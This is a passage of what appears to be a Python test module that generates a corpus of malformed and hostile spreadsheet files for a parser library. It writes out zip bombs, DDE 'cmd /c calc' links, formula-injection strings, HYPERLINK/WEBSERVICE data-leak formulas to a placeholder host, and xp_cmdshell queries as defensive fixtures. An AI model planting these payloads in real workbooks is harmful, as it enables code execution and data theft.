"""Build the corpus of broken and hostile returns from code alone, byte for byte the same on every run.

``python -m tests.hostile.make_corpus DIR`` writes every file of the corpus (and its ``INDEX.md``) into ``DIR``. Nothing
is read from disk: the generic office template lives here as data (its fixed parts as XML text, its sheets as cells),
each corpus file is that template mutated (a cell, a part, the zip itself), and the non-OOXML files (BIFF8 .xls,
OpenDocument, BIFF12, CSV, HTML, owner and lock files) are written record by record. Zip members carry the fixed time
``ZIP_TIME``, so the output depends on nothing but this module (and the zlib in use), except the encrypted file
(``RANDOM_SALTED``): its salts are random by design and msoffcrypto-tool's public API takes no seed, so only what it
decrypts to is the same on every run.

The multi-GiB members of the zip bombs are never held in memory: their deflate stream is one fully flushed deflate
block, written as many times as the data repeats (see ``repeated``). The whole build takes a couple of seconds.
"""

from __future__ import annotations

import io
import re
import struct
import sys
import zlib
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

from zedxl.vba.cfb import write_compound_file
from zedxl.vba.project import BASE_WORKBOOK, VBAModule, build_vba_project, document_module, module_from_export

ZIP_TIME = (2024, 4, 2, 9, 0, 0)
MiB = 1024 * 1024

# --------------------------------------------------------------------------------------------------------------------
# Zip writing: every header field chosen here, so the same members always give the same bytes


@dataclass(frozen=True)
class Member:
    """One zip entry. ``data`` is deflated (or stored) on writing; a member too big to hold, or one whose headers
    lie, gives its deflate stream as ``raw`` and the ``crc``/``size`` its headers declare instead."""

    name: str
    data: bytes = b""
    stored: bool = False
    raw: bytes | None = None
    crc: int = 0
    size: int = 0


def deflate(data: bytes) -> bytes:
    co = zlib.compressobj(zlib.Z_DEFAULT_COMPRESSION, zlib.DEFLATED, -15)
    return co.compress(data) + co.flush()


def repeated(name: str, head: bytes, unit: bytes, times: int, tail: bytes = b"", *,
             declared: bytes | None = None) -> Member:
    """A member holding ``head + unit * times + tail``, without ever building those bytes.

    After a full flush deflate forgets its history and restarts on a byte boundary, so one flushed block of ``unit``
    compresses to the same bytes every time: the stream is that block repeated. The CRC-32 is fed ``unit`` ``times``
    times (a reused buffer). ``declared``: the headers describe these bytes instead (a member that lies about its
    size: the stream inflates far beyond it).
    """
    co = zlib.compressobj(zlib.Z_DEFAULT_COMPRESSION, zlib.DEFLATED, -15)
    start = co.compress(head) + co.flush(zlib.Z_FULL_FLUSH)
    block = co.compress(unit) + co.flush(zlib.Z_FULL_FLUSH)
    if co.compress(unit) + co.flush(zlib.Z_FULL_FLUSH) != block:  # the premise above, checked on this zlib
        raise RuntimeError("zlib does not restart identically after a full flush")
    raw = start + block * times + co.compress(tail) + co.flush()
    if declared is not None:
        crc, size = zlib.crc32(declared), len(declared)
    else:
        crc = zlib.crc32(head)
        for _ in range(times):
            crc = zlib.crc32(unit, crc)
        crc, size = zlib.crc32(tail, crc), len(head) + len(unit) * times + len(tail)
    return Member(name, raw=raw, crc=crc, size=size)


def _dos_time() -> tuple[int, int]:
    y, mo, d, h, mi, s = ZIP_TIME
    return (h << 11) | (mi << 5) | (s // 2), ((y - 1980) << 9) | (mo << 5) | d


def zip_bytes(members: Iterable[Member]) -> bytes:
    """A zip archive of ``members`` in order (duplicate and hostile names allowed: that is the point of some)."""
    out = bytearray()
    central = bytearray()
    count = 0
    time, date = _dos_time()
    for m in members:
        name = m.name.encode("utf-8")
        flags = 0 if m.name.isascii() else 0x800  # the UTF-8 flag, as zipfile sets it
        if m.raw is not None:
            payload, crc, size, method = m.raw, m.crc, m.size, 8
        elif m.stored:
            payload, crc, size, method = m.data, zlib.crc32(m.data), len(m.data), 0
        else:
            payload, crc, size, method = deflate(m.data), zlib.crc32(m.data), len(m.data), 8
        zip64 = size >= 0xFFFFFFFF or len(payload) >= 0xFFFFFFFF
        # a zip64 member keeps both sizes in the extra field (0xFFFFFFFF in the header), as zipfile writes them
        extra = struct.pack("<HHQQ", 1, 16, size, len(payload)) if zip64 else b""
        sizes = (0xFFFFFFFF, 0xFFFFFFFF) if zip64 else (len(payload), size)
        version = 45 if zip64 else 20
        offset = len(out)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", version, flags, method, time, date, crc, *sizes, len(name),
                           len(extra))
        out += name + extra + payload
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, version, flags, method, time, date, crc, *sizes,
                               len(name), len(extra), 0, 0, 0, 0, offset)
        central += name + extra
        count += 1
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), len(out), 0)
    return bytes(out + central + end)


def zip_parts(parts: Mapping[str, bytes], replace: Iterable[Member] = (), extra: Iterable[Member] = ()) -> bytes:
    """The parts zipped in order, those named by a prepared member replaced by it, extra members appended."""
    prepared = {m.name: m for m in replace}
    return zip_bytes([*(prepared.get(n) or Member(n, data) for n, data in parts.items()), *extra])


# --------------------------------------------------------------------------------------------------------------------
# The generic office template, as data: fixed parts as XML text, sheets as cells

DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_PREFIX = "application/vnd.openxmlformats-officedocument."
CT_SHEET = CT_PREFIX + "spreadsheetml.worksheet+xml"
CT_MAIN = CT_PREFIX + "spreadsheetml.sheet.main+xml"
CT_MACRO_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
CT_CORE = "application/vnd.openxmlformats-package.core-properties+xml"
CT_APP = CT_PREFIX + "extended-properties+xml"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"

#: The template's fixed parts, word for word (what varies is rendered from ``Book``).
TEMPLATE_PARTS: dict[str, str] = {
    "docProps/core.xml": DECL + (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
        'xmlns:dcmitype="http://purl.org/dc/dcmitype/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        "<dc:creator>zedxl corpus</dc:creator><cp:lastModifiedBy>zedxl corpus</cp:lastModifiedBy>"
        '<dcterms:created xsi:type="dcterms:W3CDTF">2024-04-02T09:00:00Z</dcterms:created>'
        '<dcterms:modified xsi:type="dcterms:W3CDTF">2024-04-02T09:00:00Z</dcterms:modified></cp:coreProperties>'),
    "docProps/app.xml": DECL + (
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties" '
        'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        "<Application>Microsoft Excel</Application></Properties>"),
    "xl/styles.xml": DECL + (
        f'<styleSheet xmlns="{MAIN}"><numFmts count="1"><numFmt numFmtId="164" formatCode="0.0%"/></numFmts>'
        '<fonts count="2"><font><sz val="11"/><name val="Calibri"/></font><font><b/><sz val="11"/>'
        '<name val="Calibri"/></font></fonts><fills count="2"><fill><patternFill patternType="none"/></fill>'
        '<fill><patternFill patternType="gray125"/></fill></fills><borders count="1"><border><left/><right/><top/>'
        '<bottom/><diagonal/></border></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" '
        'borderId="0"/></cellStyleXfs><cellXfs count="8">'
        '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'  # 0 General
        '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/>'  # 1 bold
        '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'  # 2 date
        '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'  # 3 percent
        '<xf numFmtId="4" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1" applyProtection="1">'
        '<protection locked="0"/></xf>'  # 4 input number
        '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1" applyProtection="1">'
        '<protection locked="0"/></xf>'  # 5 input date
        '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0" applyProtection="1"><protection locked="0"/>'
        "</xf>"  # 6 input text
        '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1" applyProtection="1">'
        '<protection locked="0"/></xf>'  # 7 input percent
        '</cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
        "</styleSheet>"),
}

BOLD, DATE_STYLE, PERCENT, IN_NUMBER, IN_DATE, IN_TEXT, IN_PERCENT = 1, 2, 3, 4, 5, 6, 7
CUTOFF = 45382  # 2024-03-31, the period's cut-off date as a 1900-system serial
TEMPLATE_ID = "zedxl-demo-ejecucion"
INDICATORS = (("IND-01", "Personas atendidas"), ("IND-02", "Visitas de campo"), ("IND-03", "Cobertura (%)"))
TARGETS = {"OF01": (1200, 350, 0.8), "OF02": (900, 200, 0.6)}
HEADERS = ("Oficina", "Código", "Indicador", "Meta", "Ejecutado", "% Ejecución", "Fecha de corte", "Justificación")
INSTRUCTIONS = ("Complete solo las celdas de su oficina: Ejecutado, Fecha de corte y Justificación.",
                "No inserte ni elimine filas, no cambie nombres ni el orden de las hojas.")


class Lit(str):
    """A cell value written in ``<v>`` as it is, with no type: what only a hand-edited file holds (NaN, INF)."""


Value = str | int | float | None


@dataclass
class Cell:
    """A cell: a value (a str is a shared string unless ``t`` says otherwise), a style, a type, a formula."""

    v: Value = None
    s: int | None = None
    t: str | None = None
    f: str | None = None


@dataclass(frozen=True)
class Rel:
    """A relationship; ``type`` is short (the officeDocument relationship namespace is prepended) or a full URI."""

    id: str
    type: str
    target: str
    external: bool = False


@dataclass
class Sheet:
    name: str
    cells: dict[str, Cell] = field(default_factory=dict)
    state: str = "visible"
    protected: bool = False
    validation: str | None = None  # sqref of the "Ejecutado >= 0" rule
    merged: list[str] = field(default_factory=list)
    hyperlinks: list[tuple[str, str]] = field(default_factory=list)  # (ref, r:id)
    rels: list[Rel] = field(default_factory=list)
    hidden_rows: set[int] = field(default_factory=set)
    dimension: str | None = None  # None: the real used range, as Excel writes it


@dataclass
class Book:
    sheets: list[Sheet]
    names: list[tuple[str, str]] = field(default_factory=list)
    props: list[tuple[str, str]] | None = None  # custom document properties; None: no docProps/custom.xml
    active: int = 0
    date1904: bool = False
    manual_calc: bool = False
    macro: bool = False
    external_refs: list[str] = field(default_factory=list)
    defaults: list[tuple[str, str]] = field(default_factory=list)  # extra <Default> content types
    overrides: list[tuple[str, str]] = field(default_factory=list)  # extra <Override> content types
    rels: list[Rel] = field(default_factory=list)  # extra workbook relationships
    parts: dict[str, bytes] = field(default_factory=dict)  # extra parts

    def sheet(self, name: str) -> Sheet:
        return next(s for s in self.sheets if s.name == name)


@dataclass(frozen=True)
class Line:
    """One indicator row of the data sheet and what the office typed in it."""

    office: str
    indicator: int
    executed: int | float | None = None
    note: str | None = None


OF01_INPUT: dict[tuple[str, int], tuple[int | float, str | None]] = {
    ("OF01", 0): (1150, "Retraso en contratación de personal"), ("OF01", 1): (362, None),
    ("OF01", 2): (0.715, "Lluvias en marzo")}
OF02_INPUT: dict[tuple[str, int], tuple[int | float, str | None]] = {
    ("OF02", 0): (880, None), ("OF02", 1): (150, "Vehículo averiado"), ("OF02", 2): (0.55, None)}


def lines(inputs: Mapping[tuple[str, int], tuple[int | float, str | None]] = OF01_INPUT) -> list[Line | str]:
    """The six indicator rows (OF01 then OF02), with the inputs given."""
    out: list[Line | str] = []
    for office in TARGETS:
        for i in range(len(INDICATORS)):
            executed, note = inputs.get((office, i), (None, None))
            out.append(Line(office, i, executed, note))
    return out


def col_name(n: int) -> str:
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def split_ref(ref: str) -> tuple[int, int]:
    """(row, column) of an A1 reference."""
    letters = ref.rstrip("0123456789")
    col = 0
    for ch in letters:
        col = col * 26 + ord(ch) - 64
    return int(ref[len(letters):]), col


def quoted(sheet: str) -> str:
    return sheet if sheet.replace("_", "").isalnum() else f"'{sheet}'"


def data_sheet(office: str, rows: Sequence[Line | str], name: str = "Datos") -> Sheet:
    """The data sheet as Excel saved it: title, office and period, the header in row 5, one row per line from row 6
    (a str is a note typed in column C of an otherwise empty row), totals below; cached values computed."""
    cells: dict[str, Cell] = {
        "A1": Cell("Informe de ejecución trimestral", BOLD), "A2": Cell("Oficina:"), "B2": Cell(office),
        "A3": Cell("Periodo:"), "B3": Cell("2024-T1")}
    for c, text in enumerate(HEADERS, 1):
        cells[f"{col_name(c)}5"] = Cell(text, BOLD)
    total_d: int | float = 0
    total_e: int | float = 0
    last = 5 + len(rows)
    for r, line in enumerate(rows, 6):
        if isinstance(line, str):
            cells[f"C{r}"] = Cell(line)
            continue
        code, label = INDICATORS[line.indicator]
        target = TARGETS[line.office][line.indicator]
        percent = line.indicator == 2
        cells[f"A{r}"] = Cell(line.office)
        cells[f"B{r}"] = Cell(code)
        cells[f"C{r}"] = Cell(label)
        cells[f"D{r}"] = Cell(target, PERCENT if percent else None)
        if line.executed is not None:
            cells[f"E{r}"] = Cell(line.executed, IN_PERCENT if percent else IN_NUMBER)
        ratio = round(line.executed / target, 12) if line.executed is not None else 0
        cells[f"F{r}"] = Cell(ratio, PERCENT, f=f'IF(D{r}=0,"",E{r}/D{r})')
        if line.executed is not None:
            cells[f"G{r}"] = Cell(CUTOFF, IN_DATE)
        if line.note is not None:
            cells[f"H{r}"] = Cell(line.note, IN_TEXT)
        if not percent:
            total_d += target
            total_e += line.executed or 0
    total = last + 1
    cells[f"C{total}"] = Cell("Total", BOLD)
    for col, value in (("D", total_d), ("E", total_e)):
        cells[f"{col}{total}"] = Cell(value, f=f'SUMIF(C6:C{last},"<>Cobertura (%)",{col}6:{col}{last})')
    return Sheet(name, cells, protected=True, validation=f"E6:E{last}")


def meta_sheet(office: str, version: str = "2.0", data_range: str = "Datos!A5:H11") -> Sheet:
    pairs = (("template_id", TEMPLATE_ID), ("template_version", version), ("office", office),
             ("period", "2024-T1"), ("data_range", data_range))
    cells = {}
    for r, (key, value) in enumerate(pairs, 1):
        cells[f"A{r}"], cells[f"B{r}"] = Cell(key), Cell(value)
    return Sheet("_meta", cells, state="hidden")


def instructions_sheet() -> Sheet:
    return Sheet("Instrucciones", {"A1": Cell("Instrucciones", BOLD), "A2": Cell(INSTRUCTIONS[0]),
                                   "A3": Cell(INSTRUCTIONS[1])})


def template(office: str = "OF01", rows: Sequence[Line | str] | None = None, version: str = "2.0",
             data_name: str = "Datos") -> Book:
    """The generic template (B02 by default: OF01's return, filled): Instrucciones, Datos, hidden _meta, the three
    names and the three custom properties."""
    rows = lines() if rows is None else rows
    last = 5 + len(rows)
    sheet = quoted(data_name)
    return Book(
        sheets=[instructions_sheet(), data_sheet(office, rows, data_name),
                meta_sheet(office, version, f"{sheet}!A5:H{last}")],
        names=[("ZX_DATA", f"{sheet}!$A$5:$H${last}"), ("ZX_OFFICE", f"{sheet}!$B$2"),
               ("ZX_TEMPLATE_VERSION", "_meta!$B$2")],
        props=[("zedxl_template_id", TEMPLATE_ID), ("zedxl_template_version", version), ("zedxl_office", office)],
        active=1)


# -- rendering ----------------------------------------------------------------------------------------------------


def _x(text: str) -> str:
    return escape(text, {'"': "&quot;"})


def _number(v: int | float) -> str:
    return str(v) if isinstance(v, int) else repr(v)


class Strings:
    """The shared string table, numbered in order of first use, as Excel writes it."""

    def __init__(self) -> None:
        self.index: dict[str, int] = {}

    def __call__(self, text: str) -> int:
        return self.index.setdefault(text, len(self.index))

    def xml(self) -> str:
        items = "".join(f"<si>{_t(s)}</si>" for s in self.index)
        n = len(self.index)
        return DECL + f'<sst xmlns="{MAIN}" count="{n}" uniqueCount="{n}">{items}</sst>'


def _t(text: str) -> str:
    space = ' xml:space="preserve"' if text != text.strip() else ""
    return f"<t{space}>{_x(text)}</t>"


def _cell(ref: str, cell: Cell, sst: Strings) -> str:
    attrs = f' r="{ref}"' + (f' s="{cell.s}"' if cell.s is not None else "")
    t, v = cell.t, cell.v
    if t is None and isinstance(v, str) and not isinstance(v, Lit) and cell.f is None:
        t, v = "s", str(sst(v))
    if t == "inlineStr":
        return f'<c{attrs} t="inlineStr"><is>{_t(str(v))}</is></c>'
    attrs += f' t="{t}"' if t else ""
    body = f"<f>{_x(cell.f)}</f>" if cell.f is not None else ""
    if v is not None:
        body += f"<v>{_x(v) if isinstance(v, str) else _number(v)}</v>"
    return f"<c{attrs}>{body}</c>"


def sheet_xml(sheet: Sheet, sst: Strings) -> str:
    by_row: dict[int, list[tuple[int, str, Cell]]] = {}
    for ref, cell in sheet.cells.items():
        row, col = split_ref(ref)
        by_row.setdefault(row, []).append((col, ref, cell))
    rows = []
    for r in sorted(by_row):
        hidden = ' hidden="1"' if r in sheet.hidden_rows else ""
        row_cells = "".join(_cell(ref, c, sst) for _, ref, c in sorted(by_row[r], key=lambda e: e[0]))
        rows.append(f'<row r="{r}"{hidden}>{row_cells}</row>')
    if sheet.dimension is not None:
        dimension = sheet.dimension
    elif sheet.cells:
        dimension = f"A1:{col_name(max(split_ref(r)[1] for r in sheet.cells))}{max(by_row)}"
    else:
        dimension = "A1"
    tail = '<sheetProtection sheet="1" objects="1" scenarios="1"/>' if sheet.protected else ""
    if sheet.merged:
        tail += f'<mergeCells count="{len(sheet.merged)}">' + "".join(
            f'<mergeCell ref="{m}"/>' for m in sheet.merged) + "</mergeCells>"
    if sheet.validation:
        tail += ('<dataValidations count="1"><dataValidation type="decimal" operator="greaterThanOrEqual" '
                 f'allowBlank="1" showErrorMessage="1" sqref="{sheet.validation}"><formula1>0</formula1>'
                 "</dataValidation></dataValidations>")
    if sheet.hyperlinks:
        tail += "<hyperlinks>" + "".join(f'<hyperlink ref="{ref}" r:id="{rid}"/>' for ref, rid in sheet.hyperlinks)
        tail += "</hyperlinks>"
    data = "<sheetData>" + "".join(rows) + "</sheetData>" if rows else "<sheetData/>"
    return DECL + (
        f'<worksheet xmlns="{MAIN}" xmlns:r="{REL}"><dimension ref="{dimension}"/><sheetViews><sheetView '
        f'workbookViewId="0"/></sheetViews><sheetFormatPr defaultRowHeight="15"/>{data}{tail}'
        '<pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/></worksheet>')


def rels_xml(rels: Iterable[Rel]) -> str:
    items = []
    for r in rels:
        uri = r.type if "://" in r.type else f"{REL}/{r.type}"
        mode = ' TargetMode="External"' if r.external else ""
        items.append(f'<Relationship Id="{r.id}" Type="{uri}" Target="{_x(r.target)}"{mode}/>')
    return DECL + f'<Relationships xmlns="{PKG_REL}">' + "".join(items) + "</Relationships>"


def custom_xml(props: Sequence[tuple[str, str]]) -> str:
    items = "".join(f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="{pid}" name="{_x(name)}">'
                    f"<vt:lpwstr>{_x(value)}</vt:lpwstr></property>" for pid, (name, value) in enumerate(props, 2))
    return DECL + ('<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
                   f'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">{items}'
                   "</Properties>")


def workbook_xml(book: Book) -> str:
    pr = '<workbookPr date1904="1"/>' if book.date1904 else "<workbookPr/>"
    sheets = "".join(
        f'<sheet name="{_x(s.name)}" sheetId="{i}"' + (f' state="{s.state}"' if s.state != "visible" else "")
        + f' r:id="rId{i}"/>' for i, s in enumerate(book.sheets, 1))
    refs = ("<externalReferences>" + "".join(f'<externalReference r:id="{r}"/>' for r in book.external_refs)
            + "</externalReferences>") if book.external_refs else ""
    names = ("<definedNames>" + "".join(f'<definedName name="{n}">{_x(v)}</definedName>' for n, v in book.names)
             + "</definedNames>") if book.names else ""
    calc = ' calcMode="manual"' if book.manual_calc else ""
    return DECL + (f'<workbook xmlns="{MAIN}" xmlns:r="{REL}">{pr}<bookViews><workbookView activeTab="{book.active}"/>'
                   f'</bookViews><sheets>{sheets}</sheets>{refs}{names}<calcPr calcId="191029"{calc}/></workbook>')


def content_types(overrides: Iterable[tuple[str, str]], defaults: Iterable[tuple[str, str]] = ()) -> str:
    items = [("rels", "application/vnd.openxmlformats-package.relationships+xml"), ("xml", "application/xml"),
             *defaults]
    return DECL + ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   + "".join(f'<Default Extension="{e}" ContentType="{c}"/>' for e, c in items)
                   + "".join(f'<Override PartName="/{p}" ContentType="{c}"/>' for p, c in overrides) + "</Types>")


def render(book: Book) -> dict[str, bytes]:
    """Every part of the workbook, in the order Excel's packages list them."""
    sst = Strings()
    sheet_parts = {f"xl/worksheets/sheet{i}.xml": sheet_xml(s, sst) for i, s in enumerate(book.sheets, 1)}
    n = len(book.sheets)
    overrides = [("xl/workbook.xml", CT_MACRO_MAIN if book.macro else CT_MAIN)]
    overrides += [(p, CT_SHEET) for p in sheet_parts] + book.overrides
    overrides += [("xl/styles.xml", CT_PREFIX + "spreadsheetml.styles+xml"),
                  ("xl/sharedStrings.xml", CT_PREFIX + "spreadsheetml.sharedStrings+xml"),
                  ("docProps/core.xml", CT_CORE), ("docProps/app.xml", CT_APP)]
    if book.props is not None:
        overrides.append(("docProps/custom.xml", CT_PREFIX + "custom-properties+xml"))
    ct = content_types(overrides, book.defaults)
    root = [Rel("rId1", "officeDocument", "xl/workbook.xml"),
            Rel("rId2", f"{PKG_REL}/metadata/core-properties", "docProps/core.xml"),
            Rel("rId3", "extended-properties", "docProps/app.xml")]
    if book.props is not None:
        root.append(Rel("rId4", "custom-properties", "docProps/custom.xml"))
    wb_rels = [Rel(f"rId{i}", "worksheet", p.removeprefix("xl/")) for i, p in enumerate(sheet_parts, 1)]
    wb_rels += [Rel(f"rId{n + 1}", "styles", "styles.xml"), Rel(f"rId{n + 2}", "sharedStrings", "sharedStrings.xml")]
    parts: dict[str, str | bytes] = {"[Content_Types].xml": ct, "_rels/.rels": rels_xml(root),
                                     "docProps/core.xml": TEMPLATE_PARTS["docProps/core.xml"],
                                     "docProps/app.xml": TEMPLATE_PARTS["docProps/app.xml"]}
    if book.props is not None:
        parts["docProps/custom.xml"] = custom_xml(book.props)
    parts["xl/workbook.xml"] = workbook_xml(book)
    parts["xl/_rels/workbook.xml.rels"] = rels_xml(wb_rels + book.rels)
    parts["xl/styles.xml"] = TEMPLATE_PARTS["xl/styles.xml"]
    for (part, xml), sheet in zip(sheet_parts.items(), book.sheets, strict=True):
        parts[part] = xml
        if sheet.rels:
            parts[part.replace("worksheets/", "worksheets/_rels/") + ".rels"] = rels_xml(sheet.rels)
    parts.update(book.parts)
    parts["xl/sharedStrings.xml"] = sst.xml()
    return {k: v.encode("utf-8") if isinstance(v, str) else v for k, v in parts.items()}


def xlsx(book: Book) -> bytes:
    return zip_parts(render(book))


# --------------------------------------------------------------------------------------------------------------------
# Baselines (B)


def b02() -> Book:
    return template()


def make_b01() -> bytes:
    return xlsx(template(rows=lines({})))


def make_b03() -> bytes:
    return xlsx(template("OF02", lines(OF02_INPUT)))


# --------------------------------------------------------------------------------------------------------------------
# Active content (A)

THIS_WORKBOOK_CODE = """Private Sub Workbook_Open()
    ' zedxl test corpus: inert macro. A hostile one would call e.g.
    '    Shell "cmd /c ..." or CreateObject("WScript.Shell") here.
    MsgBox "zedxl corpus: macro ran"
End Sub
"""
MODULE1_EXPORT = """Attribute VB_Name = "Module1"
Sub RecalcTotals()
    ' inert helper module
    Application.CalculateFull
End Sub
"""


def make_a01() -> bytes:
    workbook_module = document_module("ThisWorkbook", BASE_WORKBOOK)
    code = workbook_module.code + THIS_WORKBOOK_CODE.replace("\n", "\r\n")
    this_workbook = VBAModule("ThisWorkbook", "document", code)
    vba = build_vba_project([this_workbook, module_from_export(MODULE1_EXPORT, "standard")])
    book = b02()
    book.macro = True
    book.defaults.append(("bin", "application/vnd.ms-office.vbaProject"))
    book.rels.append(Rel("rIdV1", VBA_REL, "vbaProject.bin"))
    book.parts["xl/vbaProject.bin"] = vba
    return xlsx(book)


def _external_link(book: Book, link_xml: str) -> None:
    book.external_refs.append("rIdX1")
    book.overrides.append(("xl/externalLinks/externalLink1.xml", CT_PREFIX + "spreadsheetml.externalLink+xml"))
    book.rels.append(Rel("rIdX1", "externalLink", "externalLinks/externalLink1.xml"))
    book.parts["xl/externalLinks/externalLink1.xml"] = (
        DECL + f'<externalLink xmlns="{MAIN}" xmlns:r="{REL}">{link_xml}</externalLink>').encode()


def make_a03() -> bytes:
    book = b02()
    _external_link(book, '<externalBook r:id="rId1"><sheetNames><sheetName val="Hoja1"/></sheetNames><sheetDataSet>'
                         '<sheetData sheetId="0"><row r="1"><cell r="A1"><v>1150</v></cell></row></sheetData>'
                         "</sheetDataSet></externalBook>")
    book.parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = rels_xml(
        [Rel("rId1", "externalLinkPath", "file:///\\\\fileserver\\private\\OF01_borrador.xlsx", True)]).encode()
    book.sheet("Datos").cells["E6"] = Cell(1150, IN_NUMBER, f="[1]Hoja1!A1")
    return xlsx(book)


def make_a04() -> bytes:
    book = b02()
    _external_link(book, '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/>'
                         "</ddeItems></ddeLink>")
    book.sheet("Datos").cells["E7"] = Cell(362, IN_NUMBER, f="[1]!A0")
    return xlsx(book)


def make_a05() -> bytes:
    book = b02()
    cells = book.sheet("Datos").cells
    texts: list[tuple[str, str, bool]] = [  # (cell, text, inline string)
        ("H6", '=HYPERLINK("http://example.invalid/?d="&B2,"Ver detalle")', False),
        ("H7", "=cmd|' /C calc'!A0", True), ("H8", "+1+1", False), ("H9", "-2+3", True),
        ("H10", "@SUM(1+1)", False), ("H11", "\t=1+1", True), ("H12", "\r=1+1", False),
        ("H13", "\uff1d1+1", True), ("H14", "=1+1", False)]
    for ref, text, inline in texts:
        cells[ref] = Cell(text, IN_TEXT, "inlineStr" if inline else None)
    return xlsx(book)


def make_a06() -> bytes:
    book = b02()
    cells = book.sheet("Datos").cells
    cells["H6"] = Cell("Ver detalle", IN_TEXT, "str", 'HYPERLINK("http://example.invalid/?d="&E6,"Ver detalle")')
    cells["H7"] = Cell("#NAME?", IN_TEXT, "e", 'WEBSERVICE("http://example.invalid/x?v="&E7)')
    cells["E8"] = Cell(0.715, IN_PERCENT, f='INDIRECT("Datos!E8")*1')
    return xlsx(book)


def make_a07() -> bytes:
    # an OLE Package object: a compound file whose Ole10Native stream carries a file named payload.exe
    payload = b"payload.exe\x00MZ\x90\x00" + b"\x00" * 4
    ole = write_compound_file({"\x01Ole10Native": struct.pack("<I", len(payload)) + payload})
    book = b02()
    book.overrides.append(("xl/embeddings/oleObject1.bin", CT_PREFIX + "oleObject"))
    book.parts["xl/embeddings/oleObject1.bin"] = ole
    return xlsx(book)


def make_a08() -> bytes:
    book = b02()
    datos = book.sheet("Datos")
    datos.rels = [Rel("rIdH1", "hyperlink", "file:///C:/Windows/System32/calc.exe", True),
                  Rel("rIdH2", "hyperlink", "javascript:alert(1)", True)]
    datos.hyperlinks = [("H6", "rIdH1"), ("H7", "rIdH2")]
    return xlsx(book)


def make_a09() -> bytes:
    book = b02()
    book.overrides.append(("xl/connections.xml", CT_PREFIX + "spreadsheetml.connections+xml"))
    book.rels.append(Rel("rIdC1", "connections", "connections.xml"))
    book.parts["xl/connections.xml"] = (DECL + (
        f'<connections xmlns="{MAIN}"><connection id="1" odcFile="C:\\Users\\x\\Documents\\Mis archivos de origen de '
        'datos\\poi.odc" name="Consulta POI (ODBC)" type="1" refreshedVersion="6" refreshOnLoad="1" '
        'background="1" saveData="1"><dbPr connection="DRIVER={SQL Server};SERVER=10.0.0.5;UID=sa;PWD=zedxl;'
        'DATABASE=poi" command="SELECT * FROM ejecucion; EXEC xp_cmdshell \'calc\'" commandType="2"/></connection>'
        '<connection id="2" name="Consulta web" type="4" refreshOnLoad="1" saveData="1"><webPr '
        'url="http://example.invalid/poi/ejecucion.html" htmlTables="1"/></connection></connections>')).encode()
    return xlsx(book)


# --------------------------------------------------------------------------------------------------------------------
# Containers (C)

CSV_TEXT = ("Oficina;Código;Indicador;Meta;Ejecutado\r\nOF01;IND-01;Personas atendidas;1200;1150\r\n"
            "OF01;IND-02;Visitas de campo;350;362\r\nOF01;IND-03;Cobertura (%);0,8;0,715\r\n")
HTML_TEXT = ("<html><body><table><tr><th>Oficina</th><th>Ejecutado</th></tr><tr><td>OF01</td><td>1150</td></tr>"
             "</table></body></html>\n")
PLAIN_TEXT = ("Informe de ejecución - Oficina OF01 - primer trimestre 2024\n\n"
              "Personas atendidas: se atendió a 1150 personas (meta 1200).\n"
              "Visitas de campo: 362 visitas realizadas.\n"
              "Cobertura: 71.5 por ciento, por las lluvias de marzo.\n\n"
              "Enviado desde el celular; el archivo de Excel no abría.\n")


def make_c02() -> bytes:
    data = xlsx(b02())
    return data[: len(data) // 2]


def make_c03() -> bytes:
    parts = render(b02())
    sheet = parts["xl/worksheets/sheet2.xml"]
    raw = bytearray(deflate(sheet))
    # the first flip (from the middle on) that still inflates to as many bytes: only the CRC tells the damage
    for pos in range(len(raw) // 2, len(raw)):
        raw[pos] ^= 0x01
        inflater = zlib.decompressobj(-15)
        try:
            out = inflater.decompress(bytes(raw))
        except zlib.error:
            out = b""
        if inflater.eof and not inflater.unused_data and len(out) == len(sheet) and out != sheet:
            break
        raw[pos] ^= 0x01
    else:  # pragma: no cover - zlib-dependent
        raise RuntimeError("no single-bit flip keeps the stream inflatable")
